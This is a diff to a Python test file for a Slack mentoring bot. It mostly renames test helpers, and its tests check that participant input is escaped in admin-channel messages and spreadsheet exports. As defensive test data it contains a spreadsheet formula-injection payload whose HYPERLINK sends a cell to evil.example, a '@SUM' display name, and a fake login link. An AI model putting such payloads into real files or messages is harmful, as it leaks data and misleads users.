@@ -26,7 +26,7 @@ from bot.runtime import Runtime
 from storage.engine import session_scope
 from storage.models import CheckIn, Pairing, Person, Program
 from tests.conftest import ADMIN_ID
-from tests.factories import make_program
+from tests.factories import make_program, send_user_change, shown_text
 from tests.polling import wait_for
 from tests.slack_driver import SlackDriver
 from tests.slack_emulator import SlackEmulator
@@ -41,8 +41,6 @@ from tests.test_partner_change_journeys import (
     _edit_profile,
     _pair_in_program,
     _settle_down,
-    _shown,
-    _user_change,
 )
 from tests.test_scheduler import enroll, settle_agreement
 
@@ -69,7 +67,7 @@ def _running_pair(engine: Engine, emulator: SlackEmulator, clock: FixedClock, **
 
 def _about(emulator: SlackEmulator, person: str) -> list[dict[str, Any]]:
     """The admin channel's messages that mention this person."""
-    return [m for m in emulator.messages_in(ADMIN_CHANNEL) if f"<@{person}>" in _shown([m])]
+    return [m for m in emulator.messages_in(ADMIN_CHANNEL) if f"<@{person}>" in shown_text([m])]
 
 
 def _live_markup(text: str) -> list[str]:
@@ -92,7 +90,7 @@ async def test_a_region_typed_with_slack_markup_neither_pings_nor_links_in_the_c
 
     told = _about(emulator, MENTEE)
     assert len(told) == 1, ("the coordinators should hear of the region change once", told)
-    text = _shown(told)
+    text = shown_text(told)
     assert "Bay Area" in text and "Inland Empire" in text, text  # the notice is the one about her region
     assert _live_markup(text) == [], ("a typed answer became live markup in the admin channel", text)
     assert "&lt;!channel&gt;" in text, ("her region should read as she typed it", text)
@@ -115,7 +113,10 @@ async def test_flipping_an_answer_back_and_forth_does_not_flood_the_admin_channe
 
     told = _about(emulator, MENTEE)
     assert told, "the first change is told: the check below could fail"
-    assert len(told) <= 2, (f"{len(told)} notices for one answer flipped back and forth", [_shown([m]) for m in told])
+    assert len(told) <= 2, (
+        f"{len(told)} notices for one answer flipped back and forth",
+        [shown_text([m]) for m in told],
+    )
 
 
 async def test_the_same_change_made_again_on_another_day_is_told_again(
@@ -130,7 +131,7 @@ async def test_the_same_change_made_again_on_another_day_is_told_again(
     await _settle_down(runtime, emulator, clock)
     _edit_profile(slack, emulator, MENTEE, 2, meeting_format="in_person", region="Inland Empire")
     await _settle_down(runtime, emulator, clock)
-    thursday = [_shown([m]) for m in _about(emulator, MENTEE)]
+    thursday = [shown_text([m]) for m in _about(emulator, MENTEE)]
     assert len(thursday) == 2, thursday
     assert "from *Inland Empire* to *Bay Area*" in thursday[0], thursday
     assert "from *Bay Area* to *Inland Empire*" in thursday[1], thursday
@@ -138,7 +139,7 @@ async def test_the_same_change_made_again_on_another_day_is_told_again(
     clock.set(datetime(2025, 4, 11, 16, tzinfo=UTC))  # Friday 9 AM in Los Angeles
     _edit_profile(slack, emulator, MENTEE, 3, meeting_format="in_person", region="Bay Area")
     await _settle_down(runtime, emulator, clock)
-    told = [_shown([m]) for m in _about(emulator, MENTEE)]
+    told = [shown_text([m]) for m in _about(emulator, MENTEE)]
     assert len(told) == 3, ("Friday's move should be told", told)
     assert "from *Inland Empire* to *Bay Area*" in told[2], told
 
@@ -155,7 +156,7 @@ async def test_an_export_never_hands_excel_a_formula_typed_by_a_participant(
     formula = '=HYPERLINK("http://evil.example/?d="&B2,"Riverside Unified")'
     _edit_profile(slack, emulator, MENTEE, 1, organization=formula)
     emulator.add_user(MENTOR, name=MENTOR.lower(), real_name=NAMES[MENTOR], display_name="@SUM(1+1)*cmd", tz=LA)
-    await _user_change(slack, emulator, runtime, MENTOR)
+    await send_user_change(slack, emulator, runtime, MENTOR)
     with session_scope(engine) as session:
         assert session.get(Person, MENTOR).display_name == "@SUM(1+1)*cmd", "Bo's new name was kept"
 
@@ -179,7 +180,7 @@ async def test_no_export_hands_excel_a_formula_and_numbers_stay_numbers(
     pairing_id = _running_pair(engine, emulator, clock)
     _edit_profile(slack, emulator, MENTEE, 1, organization="=1+2")
     emulator.add_user(MENTOR, name=MENTOR.lower(), real_name=NAMES[MENTOR], display_name="-2+3", tz=LA)
-    await _user_change(slack, emulator, runtime, MENTOR)
+    await send_user_change(slack, emulator, runtime, MENTOR)
     with session_scope(engine, write=True) as session:
         session.add(
             CheckIn(pairing_id=pairing_id, met_on=date(2025, 4, 8), duration_minutes=90, format="video",
@@ -212,9 +213,9 @@ async def test_a_rematch_reason_neither_pings_the_admin_channel_nor_links_elsewh
     assert answer.status_code == 200, answer.text
     await _settle_down(runtime, emulator, clock)
 
-    told = [m for m in _about(emulator, MENTEE) if "not working" in _shown([m])]
-    assert len(told) == 1, ("the coordinators should get Ana's request once", [_shown([m]) for m in told])
-    text = _shown(told)
+    told = [m for m in _about(emulator, MENTEE) if "not working" in shown_text([m])]
+    assert len(told) == 1, ("the coordinators should get Ana's request once", [shown_text([m]) for m in told])
+    text = shown_text(told)
     assert "we never meet" in text, text
     assert _live_markup(text) == [], ("a typed reason became live markup in the admin channel", text)
     assert "&lt;!channel&gt;" in text and "&lt;http://evil.example/login|Re-approve" in text, text  # her words
@@ -246,7 +247,7 @@ async def test_a_region_typed_with_slack_markup_does_not_ping_the_channel_from_t
         lambda: [m for m in emulator.messages_in(ADMIN_CHANNEL) if "Proposed matches" in (m.get("text") or "")],
         what="the match preview in the admin channel",
     )
-    text = _shown(preview)
+    text = shown_text(preview)
     assert f"<@{MENTOR}>" in text and "Inland Empire" in text, text  # the pair and its region are shown
     assert _live_markup(text) == [], ("a typed region became live markup in the admin channel", text)
     assert "both in Inland Empire &lt;!here&gt;" in text, text  # the region as typed, as words
